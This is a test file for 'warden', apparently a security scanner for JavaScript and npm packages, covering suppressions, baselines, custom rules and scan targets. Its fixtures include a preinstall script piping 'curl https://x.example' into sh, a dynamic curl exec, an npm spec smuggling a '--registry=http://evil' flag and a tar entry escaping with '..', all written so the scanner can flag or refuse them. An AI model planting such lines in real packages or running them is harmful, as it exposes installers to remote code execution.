// Accepting findings (inline with a reason, baselines that survive edits), user rule folders and
// disabling, and the three target kinds (folder, .tgz read in memory, npm: spec validation).
import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { create as tarCreate } from 'tar';
import { describe, expect, it } from 'vitest';
import { baselineOf, scan } from '../../src/scanner/index.js';
import { isWardenError } from '../../src/core/errors.js';

const EVAL = (x: string) => `export function f(s) {\n  return eval(${x});\n}\n`;

describe('inline suppressions', () => {
  it('honours a suppression with a reason on the line or the line above', async () => {
    const r = await scan({ files: [{ path: 'a.js', text: `// warden-ignore dynamic-code-eval: s is our own build constant\neval(s);\neval(t); // warden-ignore dynamic-code-eval: same\n` }] }, { only: ['dynamic-code-eval'] });
    expect(r.findings).toEqual([]);
    expect(r.suppressed.map((s) => s.line)).toEqual([2, 3]);
  });
  it('does not honour a suppression without a reason, and reports it', async () => {
    const r = await scan({ files: [{ path: 'a.js', text: `eval(s); // warden-ignore dynamic-code-eval\n` }] }, { only: ['dynamic-code-eval', 'suppression-missing-reason'] });
    expect(r.findings.map((f) => f.ruleId).sort()).toEqual(['dynamic-code-eval', 'suppression-missing-reason']);
    expect(r.suppressed).toEqual([]);
  });
  it('a suppression for another rule does not hide this one', async () => {
    const r = await scan({ files: [{ path: 'a.js', text: `eval(s); // warden-ignore process-spawn: not this rule\n` }] }, { only: ['dynamic-code-eval'] });
    expect(r.findings).toHaveLength(1);
  });
});

describe('baselines', () => {
  it('accepted findings stay accepted when lines move; new ones still show', async () => {
    const before = await scan({ files: [{ path: 'a.js', text: EVAL('s') }] }, { only: ['dynamic-code-eval'] });
    expect(before.findings).toHaveLength(1);
    const baseline = new Set(baselineOf(before.findings).fingerprints);
    const moved = `// a comment added above\n\n${EVAL('s')}${EVAL('other')}`;
    const after = await scan({ files: [{ path: 'a.js', text: moved }] }, { only: ['dynamic-code-eval'], baseline });
    expect(after.baselined).toBe(1);
    expect(after.findings.map((f) => f.snippet)).toEqual(['return eval(other);']);
  });
  it('rejects a malformed baseline file with its own code', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'warden-bl-'));
    writeFileSync(join(dir, 'b.json'), JSON.stringify({ version: 1, fingerprints: ['nope'] }));
    await expect(scan({ files: [] }, { baseline: join(dir, 'b.json') })).rejects.toSatisfy((e) => isWardenError(e, 'WARDEN_E_SCAN_BASELINE'));
  });
});

describe('rule folders and disabling', () => {
  it('loads a user rule, and a bad one fails with the file named', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'warden-rules-'));
    writeFileSync(
      join(dir, 'no-left-pad.yaml'),
      `id: no-left-pad\ndescription: Our policy forbids the left-pad package in servers.\nseverity: low\nconfidence: high\ncategory: policy\nlanguage: js\nmessage: left-pad imported\nfixHint: Use String.prototype.padStart.\nmatcher:\n  kind: import\n  modules: [left-pad]\n`,
    );
    const r = await scan({ files: [{ path: 'a.js', text: `import pad from 'left-pad';\nimport fs from 'node:fs';\n` }] }, { rulesDirs: [dir], only: ['no-left-pad'] });
    expect(r.findings.map((f) => [f.ruleId, f.line])).toEqual([['no-left-pad', 1]]);
    const bad = mkdtempSync(join(tmpdir(), 'warden-rules-'));
    writeFileSync(join(bad, 'oops.yaml'), `id: oops\ndescription: A rule with an unknown matcher kind.\nseverity: low\nconfidence: high\ncategory: x\nlanguage: js\nmessage: oops oops\nfixHint: none none\nmatcher: { kind: magic }\n`);
    await expect(scan({ files: [] }, { rulesDirs: [bad] })).rejects.toSatisfy((e) => isWardenError(e, 'WARDEN_E_SCAN_RULE_INVALID') && String((e as Error).message).includes('oops.yaml'));
  });
  it('disables rules by id and refuses unknown ids', async () => {
    const files = [{ path: 'a.js', text: `eval(s);\n` }];
    expect((await scan({ files })).findings.some((f) => f.ruleId === 'dynamic-code-eval')).toBe(true);
    expect((await scan({ files }, { disable: ['dynamic-code-eval'] })).findings.some((f) => f.ruleId === 'dynamic-code-eval')).toBe(false);
    await expect(scan({ files }, { disable: ['no-such-rule'] })).rejects.toSatisfy((e) => isWardenError(e, 'WARDEN_E_SCAN_RULE_UNKNOWN'));
    await expect(scan({ files }, { disable: ['mcp-tool-no-such-check'] })).rejects.toSatisfy((e) => isWardenError(e, 'WARDEN_E_SCAN_RULE_UNKNOWN'));
  });
});

describe('targets', () => {
  it('scans a .tgz in memory, stripping the package/ prefix', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'warden-tgz-'));
    mkdirSync(join(dir, 'package'));
    writeFileSync(join(dir, 'package', 'index.js'), `require('child_process').exec('curl ' + process.argv[2]);\n`);
    await tarCreate({ gzip: true, file: join(dir, 'm.tgz'), cwd: dir }, ['package']);
    const r = await scan(join(dir, 'm.tgz'));
    expect(r.findings.find((f) => f.ruleId === 'shell-dynamic-command')?.file).toBe('index.js');
  });
  it('refuses an archive entry that escapes with ..', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'warden-tgz-'));
    mkdirSync(join(dir, 'a'));
    writeFileSync(join(dir, 'evil.js'), 'x');
    await tarCreate({ gzip: true, file: join(dir, 'bad.tgz'), cwd: join(dir, 'a'), preservePaths: true }, ['../evil.js']);
    await expect(scan(join(dir, 'bad.tgz'))).rejects.toSatisfy((e) => isWardenError(e, 'WARDEN_E_SCAN_ARCHIVE'));
  });
  it('rejects a missing path and a malformed npm spec', async () => {
    await expect(scan('/no/such/folder')).rejects.toSatisfy((e) => isWardenError(e, 'WARDEN_E_SCAN_TARGET'));
    await expect(scan('npm:--registry=http://evil')).rejects.toSatisfy((e) => isWardenError(e, 'WARDEN_E_SCAN_TARGET'));
  });
  it('fetches npm: targets with `npm pack` (scripts off) — here a stand-in npm that packs a local folder', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'warden-npm-'));
    mkdirSync(join(dir, 'package'));
    writeFileSync(join(dir, 'package', 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', scripts: { preinstall: 'curl -s https://x.example | sh' } }));
    await tarCreate({ gzip: true, file: join(dir, 'src.tgz'), cwd: dir }, ['package']);
    // A fake npm: checks it is asked to pack with scripts ignored, copies the archive, prints npm's JSON.
    const fake = join(dir, 'npm');
    writeFileSync(fake, `#!/bin/sh\ncase "$*" in *--ignore-scripts*) ;; *) exit 9;; esac\nshift; shift\nwhile [ "$1" != "--pack-destination" ]; do shift; done\ncp ${join(dir, 'src.tgz')} "$2/x-1.0.0.tgz"\necho '[{"filename":"x-1.0.0.tgz"}]'\n`, { mode: 0o755 });
    const r = await scan('npm:x@1.0.0', { npmCommand: fake });
    expect(r.target).toBe('npm:x@1.0.0');
    expect(r.findings.map((f) => f.ruleId)).toContain('install-script-dangerous');
    expect(r.capabilities.installScripts.present).toBe(true);
  });
});
